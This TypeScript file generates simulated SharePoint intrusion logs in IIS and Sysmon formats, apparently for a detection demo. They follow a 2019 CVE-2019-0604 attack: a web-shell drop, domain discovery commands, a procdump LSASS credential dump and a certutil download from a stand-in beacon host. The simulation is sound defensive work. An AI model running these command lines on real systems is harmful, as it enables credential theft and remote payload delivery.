import type { RecordedLog, Step } from './step.ts';

/**
 * One intrusion, after the public facts of the attacks of spring 2019 on SharePoint servers of governments in the
 * Middle East: exploitation of CVE-2019-0604 through the people picker, a web shell among the layouts, discovery,
 * theft of credentials from LSASS, a loader beside a legitimate program, and regular contact with a server outside.
 * Source of the order of events: Palo Alto Networks Unit 42, "Emissary Panda Attacks Middle East Government
 * SharePoint Servers", 28 May 2019.
 *
 * SIMULATION: these are records as sensors write them, with made-up machines, accounts and documentation addresses.
 * They hold no exploit, no shell and no malware, and nothing is executed.
 */
const MACHINE = 'sharepoint-01.demo.invalid';
const ATTACKER = '203.0.113.77';
const BEACON = '198.51.100.200';
const LAYOUTS =
  'C:\\Program Files\\Common Files\\microsoft shared\\Web Server Extensions\\15\\TEMPLATE\\LAYOUTS';
const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const POOL = 'DEMO\\svc-sharepoint';

export function intrusion({ startMs }: { readonly startMs: number }): readonly Step[] {
  const steps: readonly (readonly [afterMs: number, log: RecordedLog])[] = [
    [0, iis('GET', '/_layouts/15/start.aspx', '-', 200)],
    [
      3_000,
      iis(
        'POST',
        '/_layouts/15/Picker.aspx',
        'PickerDialogType=Microsoft.SharePoint.WebControls.ItemPickerDialog',
        200,
      ),
    ],
    [5_000, sysmon(11, { Image: W3WP, TargetFilename: `${LAYOUTS}\\stylecs.aspx`, User: POOL })],
    [8_000, iis('POST', '/_layouts/15/stylecs.aspx', '-', 200)],
    [9_000, launched(W3WP, CMD, 'cmd.exe /c whoami /all')],
    [13_000, launched(W3WP, CMD, 'cmd.exe /c net user /domain')],
    [17_000, launched(W3WP, CMD, 'cmd.exe /c net group "Domain Admins" /domain')],
    [
      23_000,
      launched(
        CMD,
        'C:\\Windows\\Temp\\procdump64.exe',
        'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp',
      ),
    ],
    [23_500, lsassRead()],
    [
      30_000,
      launched(
        CMD,
        'C:\\Windows\\System32\\certutil.exe',
        `certutil.exe -urlcache -split -f http://${BEACON}/update.dat C:\\ProgramData\\update.dat`,
      ),
    ],
    [
      36_000,
      sysmon(7, {
        Image: 'C:\\ProgramData\\plugin_host.exe',
        ImageLoaded: 'C:\\ProgramData\\PYTHON33.dll',
        Signed: 'false',
        User: POOL,
      }),
    ],
    ...[0, 1, 2, 3, 4, 5].map((beat) => [40_000 + beat * 10_000, beacon()] as const),
    [62_000, logon()],
  ];
  return steps.map(([afterMs, log]) => ({ kind: 'log', atMs: startMs + afterMs, log }));
}

function iis(method: string, stem: string, query: string, status: number): RecordedLog {
  return {
    file: 'sharepoint-01.iis.log',
    line(time) {
      const [date = '', clock = ''] = time.toISOString().split('T');
      const fields = [date, clock.slice(0, 8), '192.0.2.250', method, stem, query, 443, '-', ATTACKER];
      return [...fields, 'Mozilla/5.0+(Windows+NT+10.0;+WOW64)', '-', status, 0, 0, 31].join(' ');
    },
  };
}

/** `#Fields` of the IIS log, written once at its beginning (W3C extended log file format). */
export const IIS_HEADER = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
].join('\n');

type EventData = Readonly<Record<string, string | number>>;

function windows(channel: string, eventId: number, data: EventData): RecordedLog {
  return {
    file: 'sharepoint-01.windows.jsonl',
    line(time) {
      const head = {
        '@timestamp': time.toISOString(),
        Channel: channel,
        EventID: eventId,
        Computer: MACHINE,
      };
      return JSON.stringify({ ...head, Simulation: 'demonstration of Dejfa; not a real event', ...data });
    },
  };
}

function sysmon(eventId: number, data: EventData): RecordedLog {
  return windows('Microsoft-Windows-Sysmon/Operational', eventId, {
    Provider_Name: 'Microsoft-Windows-Sysmon',
    ...data,
  });
}

function launched(parent: string, image: string, commandLine: string): RecordedLog {
  return sysmon(1, {
    Image: image,
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    CommandLine: commandLine,
    ParentImage: parent,
    ParentCommandLine: parent,
    CurrentDirectory: 'C:\\Windows\\Temp\\',
    User: POOL,
    IntegrityLevel: 'High',
  });
}

function lsassRead(): RecordedLog {
  return sysmon(10, {
    SourceImage: 'C:\\Windows\\Temp\\procdump64.exe',
    TargetImage: 'C:\\Windows\\System32\\lsass.exe',
    GrantedAccess: '0x1fffff',
    CallTrace:
      'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6b24',
    SourceUser: POOL,
  });
}

function beacon(): RecordedLog {
  return sysmon(3, {
    Image: 'C:\\ProgramData\\plugin_host.exe',
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: '192.0.2.250',
    DestinationIp: BEACON,
    DestinationPort: 443,
    User: POOL,
  });
}

function logon(): RecordedLog {
  return windows('Security', 4624, {
    Provider_Name: 'Microsoft-Windows-Security-Auditing',
    TargetUserName: 'demo-admin',
    TargetDomainName: 'DEMO',
    LogonType: 3,
    IpAddress: '192.0.2.250',
    AuthenticationPackageName: 'NTLM',
    WorkstationName: 'SHAREPOINT-01',
  });
}
